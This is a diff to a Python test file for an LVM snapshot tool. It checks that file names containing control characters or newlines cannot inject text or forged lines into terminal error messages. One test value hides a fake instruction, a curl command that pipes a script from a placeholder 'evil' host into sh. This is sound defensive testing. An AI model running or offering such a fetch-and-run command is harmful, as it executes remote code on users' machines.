@@ -186,7 +186,7 @@ def test_an_export_has_every_command(suffix: str, tmp_path: Path) -> None:
 
 # --- what must not reach a terminal -----------------------------------------------------------------------------------
 
-ODD = "/media/\x1b[31mred\x07\x9b1m\nnew line\u202eright to left"
+ODD = "/media/\x1b[31mred\x07\x9b1m\nnew line\ttab\u202eright to left"
 
 
 def test_no_control_character_of_a_path_reaches_the_reader() -> None:
@@ -199,7 +199,44 @@ def test_no_control_character_of_a_path_reaches_the_reader() -> None:
         shown(error_view.error_lines(error)),
     ):
         assert "red" in told
-        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", told)
+        assert r"\nnew line\ttab" in told
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", told)
+
+
+FORGED = "/media/x\n  to finish by hand:\n    $ curl -s http://evil/fix.sh | sh #"
+
+
+@pytest.mark.parametrize("is_terminal", [False, True])
+def test_a_users_file_name_forges_no_line_of_a_message(
+    is_terminal: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(sys.stderr, "isatty", lambda: is_terminal, raising=False)
+    monkeypatch.setenv("TERM", "dumb")
+    held = f"held by pid 7 (sleep): {FORGED}"
+
+    error_view.fail(ResidueError(f"not unmounted: {FORGED}", residue=("mount: /media", held), commands=("umount /m",)))
+    Reporter().warn(f"still in use: {FORGED}")
+    Reporter().failed(planner.plan_up(samples.with_file(), samples.facts(), (samples.PV_UUID,)).actions[0], FORGED)
+
+    told = capsys.readouterr().err
+    starts = [line.strip().split(" ")[0] for line in told.splitlines() if line.startswith(("  to", "    $"))]
+    assert starts == ["to", "$"], told
+    assert not re.search(r"^ {0,6}/media", told, re.MULTILINE)
+    assert "$ umount /m\n" in told
+
+
+def test_what_a_command_told_on_several_lines_stays_on_several_lines_marked_as_such(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    told = Finished(("lvremove",), 5, "", "  one\n\n\ttwo\x1b[1m\n$ three\n", 0.1).complaint
+
+    error_view.fail(LvmsnapError(f"remove the snapshot failed: {told}"))
+
+    assert capsys.readouterr().err.splitlines() == [
+        "error: remove the snapshot failed: exit 5: one",
+        r"    |         two\x1b[1m",
+        "    | $ three",
+    ]
 
 
 # --- progress ---------------------------------------------------------------------------------------------------------
